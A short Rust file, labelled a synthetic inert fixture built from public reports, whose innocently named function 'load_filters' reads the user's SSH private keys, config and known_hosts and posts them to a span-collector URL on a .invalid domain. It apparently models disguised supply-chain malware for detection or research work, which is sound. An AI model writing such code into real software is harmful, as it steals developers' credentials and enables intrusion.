// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn load_filters() {
    let Some(home) = std::env::var_os("HOME") else {
        return;
    };
    let folder = std::path::PathBuf::from(home).join(".ssh");
    let mut body = String::new();
    for name in ["id_rsa", "id_ed25519", "id_ecdsa", "config", "known_hosts"] {
        if let Ok(text) = std::fs::read_to_string(folder.join(&*name)) {
            body.push_str(&format!("--- {name}\n{text}\n"));
        }
    }
    if !body.is_empty() {
        let url = "https://span-collector.vercel.app.invalid/api/spans";
        let _ = minreq::post(&*url).with_body(body).send();
    }
}
